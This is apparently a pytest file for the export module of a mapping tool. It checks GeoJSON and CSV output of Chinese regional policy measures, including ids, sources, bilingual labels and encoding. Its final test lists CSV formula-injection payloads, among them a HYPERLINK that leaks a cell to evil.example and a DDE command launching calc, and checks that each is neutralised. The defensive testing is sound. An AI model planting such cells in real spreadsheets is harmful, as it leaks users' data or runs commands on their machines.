"""Tests of circlemap.export.data: the GeoJSON and CSV behind a map."""

from __future__ import annotations

import csv
import dataclasses
import io
import json

import geopandas as gpd
import pandas as pd
import pytest

from circlemap import export, views
from circlemap.filters import Selection
from tests.export.support import (
    TODAY,
)


def test_geojson_reads_back_with_the_same_ids_sources_and_accuracy(catalog):
    selection = Selection(cities=("淄博",))
    data = export.export(catalog, selection, lang="en", fmt="geojson", today=TODAY)
    frame = gpd.read_file(io.BytesIO(data))
    expected = views.selected_features(catalog, selection)
    assert sorted(frame["id"]) == sorted(expected.index)
    assert frame.crs.to_epsg() == 4326
    assert {"source", "quote", "geometry_accuracy", "kind_label", "status_label"} <= set(frame)
    row = frame.set_index("id").loc["rail-zibo-airport"]
    assert row["source"] == "000_62d8a2b4d5d19bc4.txt"
    assert row["geometry_accuracy"] == "schematic"
    assert row["kind_label"] == "Rail"
    assert row["source_title"].startswith("Luzhong Morning Post")
    raw = json.loads(data)
    assert raw["metadata"]["exported"] == "2026-11-22"
    assert raw["features"][0]["properties"]["cities"]  # lists stay lists


def test_geojson_labels_follow_the_language(catalog):
    raw = json.loads(export.export(catalog, Selection(kinds=("rail",)), lang="zh", fmt="geojson"))
    props = raw["features"][0]["properties"]
    assert props["kind_label"] == "轨道交通"
    assert props["name_zh"] == "淄博至遥墙机场轨道交通"


def test_csv_has_bom_reads_back_with_chinese_and_labels(catalog):
    data = export.export(catalog, Selection(), lang="zh", fmt="csv", today=TODAY)
    assert data.startswith(b"\xef\xbb\xbf")
    frame = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig").set_index("id")
    assert list(frame.index) == ["m1", "m2"]
    row = frame.loc["m1"]
    assert row["title"] == "谋划淄博至济南遥墙机场轨道交通"
    assert row["category"] == "transport"
    assert row["category_label"] == "交通与基础设施"
    assert row["status_label"] == "谋划 · 协议约定的计划，截至2021年2月"  # verb, standing, as of
    assert row["features"] == "rail-zibo-airport"
    assert row["source"] == "000_62d8a2b4d5d19bc4.txt"
    assert row["quote"] == "谋划淄博至济南遥墙机场轨道交通"
    assert row["cities_label"] == "淄博; 济南"


def test_csv_in_english_filters_like_the_measures_table(catalog):
    data = export.export(catalog, Selection(categories=("health",)), lang="en", fmt="csv")
    frame = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
    assert list(frame["id"]) == ["m2"]
    assert frame.loc[0, "category_label"] == "Health"
    assert frame.loc[0, "cities_label"] == "Jinan"


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_cells_a_spreadsheet_would_run_are_neutralised(catalog, hostile):
    measures = catalog.measures.copy()
    measures.loc["m1", "title_zh"] = hostile
    measures.loc["m1", "quote"] = hostile
    hostile_catalog = dataclasses.replace(catalog, measures=measures)
    data = export.export(hostile_catalog, Selection(), lang="zh", fmt="csv", today=TODAY)
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    row = next(r for r in rows if r["id"] == "m1")
    for column in ("title", "title_zh", "quote"):
        # OWASP: a leading single quote makes the cell text; the text itself is kept
        assert row[column] == "'" + hostile, column
    other = next(r for r in rows if r["id"] == "m2")
    assert not other["title"].startswith("'")  # ordinary cells are left alone
